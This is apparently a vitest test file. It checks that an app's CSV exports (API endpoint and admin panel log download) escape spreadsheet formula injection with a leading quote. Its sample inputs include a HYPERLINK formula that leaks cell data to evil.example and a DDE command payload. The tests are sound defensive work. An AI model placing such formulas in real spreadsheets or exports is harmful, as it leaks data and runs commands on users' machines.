import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { createWorker } from '../../src/worker/create-worker.js';
import { ADMIN_ENV, PanelClient } from '../panel/panel-client.js';
import { type ChannelJson } from '../support/driver.js';
import { useTestApp } from '../support/harness.js';
import { TEST_ADMIN_KEY } from '../support/test-app.js';

const { app, driver } = useTestApp({ env: ADMIN_ENV });
let sheet: ChannelJson;

/** What a sender may write that a spreadsheet would run as a formula. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
];

beforeAll(async () => {
  sheet = await driver.createChannel({ name: 'Sheet', template: '{{v}}' });
  // Each value becomes a prompt that starts with it.
  for (const v of FORMULAS)
    expect((await driver.sendEvent(sheet.webhook_url, { v })).status).toBe(200);
  // A refused body is kept as it came: its payload starts with `=`.
  const refused = await driver.sendEvent(sheet.webhook_url, '=1+1', { contentType: 'text/plain' });
  expect(refused.status).toBe(415);
  await createWorker(app.ctx).runOnce();
});

/** The cells of the CSV as a spreadsheet would get them, header row left out. */
function cells(csv: string): string[] {
  return (parse(csv, { columns: false }) as string[][]).slice(1).flat();
}

function expectNoFormulas(all: string[]): void {
  const prompts = all.filter((cell) => FORMULAS.some((formula) => cell === `'${formula}`));
  // Every formula came back, each with its leading quote...
  expect(prompts.sort()).toEqual(FORMULAS.map((formula) => `'${formula}`).sort());
  expect(all).toContain("'=1+1");
  // ...and no cell starts with a character that makes a spreadsheet evaluate it.
  expect(all.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
}

describe('CSV exports and spreadsheet formulas', () => {
  it("GET /api/v1/events/export?format=csv writes a cell that starts a formula with a leading '", async () => {
    const res = await fetch(
      `${app.baseUrl}/api/v1/events/export?format=csv&channel_id=${sheet.id}`,
      {
        headers: { Authorization: `Bearer ${TEST_ADMIN_KEY}` },
      },
    );
    expect(res.status).toBe(200);
    expectNoFormulas(cells(await res.text()));
  });

  it('the panel’s Brain Logs download does the same', async () => {
    const panel = new PanelClient(app);
    await panel.signIn();
    const res = await panel
      .page(`/logs/export?format=csv&channel=${sheet.id}`)
      .buffer(true)
      .parse((r, done) => {
        let text = '';
        r.on('data', (chunk: Buffer) => (text += chunk));
        r.on('end', () => done(null, text));
      });
    expect(res.status).toBe(200);
    const all = cells(res.body as string);
    expect(all.length).toBeGreaterThan(0);
    expectNoFormulas(all);
  });

  it('leaves other cells as they were, numbers included', async () => {
    const res = await fetch(
      `${app.baseUrl}/api/v1/events/export?format=csv&channel_id=${sheet.id}`,
      {
        headers: { Authorization: `Bearer ${TEST_ADMIN_KEY}` },
      },
    );
    const rows = (parse(await res.text(), { columns: true }) as Record<string, string>[]).filter(
      (row) => row.status === 'replied',
    );
    expect(rows).toHaveLength(FORMULAS.length);
    for (const row of rows) {
      expect(row.attempts).toBe('1');
      expect(row.payload).toMatch(/^\{"v":/);
      expect(row.reply).toMatch(/^\[echo stand-in/);
    }
  });
});
